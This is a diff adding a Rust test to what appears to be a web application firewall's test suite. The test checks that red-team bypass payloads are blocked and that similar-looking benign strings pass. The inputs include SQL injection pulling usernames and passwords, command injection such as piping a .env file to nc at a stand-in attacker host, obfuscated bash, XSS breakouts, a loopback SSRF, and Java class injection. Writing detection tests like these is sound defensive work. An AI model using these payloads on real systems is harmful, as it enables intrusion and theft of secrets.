@@ -1731,3 +1731,89 @@ fn ambiguous_parts_and_cidr_values() {
         assert_blocks_with(&get(e, &format!("/a?u={}", pct(url))), "ssrf-loopback", url);
     }
 }
+
+/// The fourth red-team round's bypass classes, each with benign text of
+/// the same shape that passes.
+#[test]
+fn fourth_review_bypasses_block_and_their_look_alikes_pass() {
+    let e = default_engine();
+    let mp = "multipart/form-data; boundary=b1";
+    // A field dressed as a file: a bare `filename`, or a second
+    // disposition naming a file. PHP and Werkzeug read a field.
+    let sqli = "-1 UNION SELECT username,password FROM users-- -";
+    for head in [
+        "Content-Disposition: form-data; name=\"id\"; filename",
+        "Content-Disposition: form-data; name=\"id\"\r\nContent-Disposition: form-data; name=\"id\"; filename=\"a.txt\"",
+    ] {
+        let body = format!("--b1\r\n{head}\r\n\r\n{sqli}\r\n--b1--\r\n");
+        let v = post(e, "/item.php", mp, &body);
+        assert_blocks_with(&v, "sqli-union-select", head);
+        assert_blocks_with(&v, "protocol-multipart-malformed", head);
+    }
+    let blocked =
+        |q: &str, rule: &str| assert_blocks_with(&get(e, &format!("/a?q={}", pct(q))), rule, q);
+    let passes = |q: &str| {
+        let v = get(e, &format!("/a?q={}", pct(q)));
+        assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
+    };
+    // MySQL's DISTINCTROW and TABLE statement.
+    blocked(
+        "-1 union distinctrow select username,password from users",
+        "sqli-union-select",
+    );
+    blocked(
+        "x' union distinctrow select 1,database() where '1",
+        "sqli-union-select",
+    );
+    blocked("-1 union table users", "sqli-union-select");
+    passes("European Union table tennis");
+    // A command on a file of the working directory.
+    for q in [
+        "127.0.0.1;cat config.php",
+        "127.0.0.1;cat .env|nc attacker.example 80",
+        "127.0.0.1\nrm index.php",
+        "127.0.0.1 & type web.config",
+        "x|python s.py",
+    ] {
+        blocked(q, "cmdi-hard-separator-command");
+    }
+    blocked(
+        "127.0.0.1; Get-Content web.config",
+        "cmdi-separator-command",
+    );
+    passes("Bring snacks; cat food.txt is attached");
+    passes("notes: read README.md first");
+    // Bash ANSI-C strings in octal.
+    blocked("127.0.0.1;$'\\151\\144'", "cmdi-hard-separator-command");
+    blocked(
+        "x;eval $'\\142\\141\\163\\150\\40\\55\\151'",
+        "cmdi-substitution",
+    );
+    passes("costs $'\\12 each");
+    // A JS string closed inside an object or array literal.
+    blocked("'};location=name;{'", "xss-js-string-breakout");
+    blocked("'];eval(name);['", "xss-js-string-breakout");
+    passes("It's '}; fine");
+    // A subquery concatenated to a string (Oracle, PostgreSQL).
+    blocked(
+        "x'||(SELECT CASE WHEN (username='administrator') THEN TO_CHAR(1/0) ELSE '' END FROM users)||'",
+        "sqli-subquery",
+    );
+    // A backslash before the userinfo: urllib reaches the last host.
+    blocked("http://e.com\\@127.0.0.1:6379/", "ssrf-loopback");
+    // Rich text's inline styles, and stack traces, pass.
+    for q in [
+        "<p style=\"color: red\">Red</p>",
+        "<b style=\"font-weight:normal;\" id=\"docs-internal-guid-abc\"><span style=\"font-size:11pt;font-family:Arial\">Text</span></b>",
+        "at java.lang.Thread.run(Thread.java:750)",
+        "{\"module\":\"java.lang.Thread\",\"function\":\"run\"}",
+    ] {
+        passes(q);
+    }
+    blocked(
+        "<p style=\"color:red\" onmouseover=\"alert(1)\">x</p>",
+        "xss-libinjection",
+    );
+    blocked("T(java.lang.Thread).sleep(5000)", "java-class");
+    blocked("java.lang.Integer", "java-class");
+}
